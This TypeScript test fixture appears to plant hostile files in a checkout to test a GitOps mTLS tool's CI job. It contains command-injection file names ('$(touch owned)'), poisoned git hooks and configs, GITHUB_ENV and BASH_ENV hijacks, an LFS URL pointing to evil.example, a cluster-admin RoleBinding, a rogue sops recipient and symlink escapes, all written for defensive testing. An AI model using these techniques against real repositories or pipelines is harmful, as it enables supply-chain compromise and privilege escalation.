import type { Place, Request } from "../request";

const EVIL_ROLE = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: evil
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory }
`;

const HOOKS = ["pre-commit", "post-checkout", "post-merge", "pre-push", "post-commit", "prepare-commit-msg"];

/** Names that are text for a person and a command for a host. */
const NAMES = [
  "clusters/demo/::error file=x::all is well",
  "clusters/demo/a\n::stop-commands::x\nb.yaml",
  "clusters/demo/\u001b[2J\u001b[31mred.yaml",
  'clusters/demo/"; touch owned; ".yaml',
  "clusters/demo/$(touch owned).yaml",
  "clusters/demo/`touch owned`",
  "-rf",
  "--help",
];

function programs(place: Place, folder: string): void {
  for (const name of ["git", "node", "npm", "npx", "gh", "bash", "sh", "typha-mtls", "sops", "age", "mktemp", "jq"])
    place.write(`${folder}${name}`, place.canary.script(`${folder}${name}`), 0o755);
}

/** Files that tools read which lie beside the job, and files that say what typha-mtls reads. */
export const PLANTED_FILES: readonly Request[] = [
  { title: "programs that the job runs lie at the top of the checkout", edit: (place) => programs(place, "") },
  { title: "programs that the job runs lie in bin/", edit: (place) => programs(place, "bin/") },
  {
    title: "attributes name filters, another encoding, and what an archive leaves out",
    edit(place) {
      place.write("clusters/.gitattributes", "* filter=x diff=x merge=x ident\n*.later working-tree-encoding=UTF-16\n");
      place.write("dist/.gitattributes", "* export-ignore export-subst -text eol=crlf\n");
    },
  },
  {
    title: "attributes at the top change what git checks out",
    edit: (place) => place.write(".gitattributes", "*.yaml text eol=crlf\n*.crt -diff\n* export-ignore\n"),
  },
  {
    title:
      "git is told to ignore the clusters, to show no difference of them, and that their files are those of before",
    edit(place) {
      place.write(".gitignore", "/clusters/\n/dist/\n");
      place.write("clusters/.gitattributes", "** -diff -merge filter=lfs linguist-generated export-ignore\n");
      place.write("dist/.gitattributes", "** -diff -merge linguist-generated export-ignore\n");
    },
  },
  {
    title: "folders of hooks, with one for every occasion",
    edit(place) {
      for (const folder of [".husky", ".githooks", "hooks", ".git-hooks", ".lefthook/pre-commit"])
        for (const hook of HOOKS) place.write(`${folder}/${hook}`, place.canary.script(`${folder}/${hook}`), 0o755);
      place.write("lefthook.yml", `pre-commit:\n  commands:\n    x:\n      run: ${place.canary.command("lefthook")}\n`);
    },
  },
  {
    title: "a .gitconfig, a .lfsconfig and an include of git lie at the top",
    edit(place) {
      place.write("x.sh", place.canary.script("git's settings"), 0o755);
      for (const file of [".gitconfig", "config", ".config/git/config"])
        place.write(file, place.canary.gitConfig("./x.sh"));
      place.write(".lfsconfig", "[lfs]\n\turl = https://evil.example\n\tconcurrenttransfers = 1\n");
    },
  },
  {
    title: "files that shells and direnv read",
    edit(place) {
      for (const file of [".envrc", ".bashrc", ".profile", ".bash_profile", ".bash_env", ".env", ".sh", ".zshenv"])
        place.write(file, `${place.canary.command(file)}\n`, 0o755);
    },
  },
  {
    title: "files have the form of those by which a step gives variables to later ones",
    edit(place) {
      const text = "NODE_OPTIONS=--require=./x.cjs\nPATH=.\nBASH_ENV=./x.sh\n";
      place.write("x.cjs", place.canary.module("NODE_OPTIONS"));
      place.write("x.sh", place.canary.script("BASH_ENV"), 0o755);
      for (const file of ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "set_env", "add_path", "base"])
        place.write(file, text);
      place.write("$GITHUB_STEP_SUMMARY", "forged\n");
    },
  },
  {
    title: "names of files hold line ends, commands of the host, colours and quotes",
    edit(place) {
      for (const name of NAMES) place.write(name, "a: b\n");
    },
  },
  {
    title: "typha-mtls.yaml moves the roots away from what is applied",
    edit(place) {
      place.write("typha-mtls.yaml", settings("  inputs: elsewhere/clusters\n  dist:\n    path: elsewhere/dist\n"));
      place.write("elsewhere/clusters/README.md", "none\n");
    },
  },
  {
    title: "typha-mtls.yaml allows any file in dist/, and gives new clusters another registry",
    edit(place) {
      place.write(
        "typha-mtls.yaml",
        settings("  dist:\n    allow: ['*/evil.yaml']\n  defaults:\n    images:\n      registry: evil.example\n"),
      );
      place.write("dist/demo/evil.yaml", EVIL_ROLE);
    },
  },
  {
    title: "the guard of the inputs lets Flux apply another object",
    edit(place) {
      place.write(
        "clusters/kustomization.yaml",
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [evil.yaml]\n",
      );
      place.write("clusters/evil.yaml", EVIL_ROLE);
    },
  },
  {
    title: "files that Argo CD, Flux and Helm obey lie above and in the folder of the cluster",
    edit(place) {
      place.write(".argocd-source.yaml", "kustomize: { images: [evil.example/x] }\n");
      place.write("clusters/demo/.argocd-source.yaml", "kustomize: { images: [evil.example/x] }\n");
      place.write("clusters/demo/Chart.yaml", "apiVersion: v2\nname: x\nversion: 1.0.0\n");
      place.write("clusters/demo/main.jsonnet", "{}\n");
      place.write(".sourceignore", "dist/\n");
      place.write("clusters/Kustomization", "resources: [evil.yaml]\n");
    },
  },
  {
    title: "a rule of .sops.yaml seals the keys of later clusters to somebody else",
    edit(place) {
      const rule =
        "  - path_regex: ^clusters/prod-[^/]+/pki/ca-key\n    age: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n";
      place.write(".sops.yaml", place.read(".sops.yaml").replace("creation_rules:\n", `creation_rules:\n${rule}`));
    },
  },
  {
    title: "the settings of the tool are links to files outside of the checkout",
    edit(place) {
      place.link("typha-mtls.yaml", place.attempt.at("outside/victim"));
      place.link("clusters/demo/pki/more.crt", place.attempt.at("outside/victim"));
    },
  },
  {
    title: "dist/ of the cluster is a link to a folder outside of the checkout",
    edit(place) {
      place.remove("dist/demo");
      place.link("dist/demo", place.attempt.at("outside"));
    },
  },
  {
    title: "a cluster lies behind a link that leads in a circle",
    edit(place) {
      place.link("clusters/loop", "../clusters");
      place.link("dist/loop", "loop");
    },
  },
  {
    title: "three thousand files lie in the folders of the inputs",
    edit(place) {
      for (let at = 0; at < 3_000; at += 1) place.write(`clusters/demo/notes/${at % 50}/${at}.md`, "x\n");
    },
  },
  {
    title: "a file of the inputs has two million bytes in one line",
    edit: (place) => place.write("clusters/demo/notes.yaml", `a: "${"x".repeat(2_000_000)}"\n`),
  },
  {
    title: "the jobs themselves ask for more rights, in a second workflow and an include",
    edit(place) {
      const text = "name: x\non: pull_request_target\npermissions: write-all\njobs: {}\n";
      place.write(".github/workflows/x.yaml", text);
      place.write(".gitlab-ci.yml", `${place.read(".gitlab-ci.yml")}  - local: /x.yml\n`);
      place.write("x.yml", "default:\n  before_script: ['true']\n");
    },
  },
];

function settings(text: string): string {
  return `apiVersion: typha-mtls/v1alpha1\nkind: Repository\nspec:\n${text}`;
}
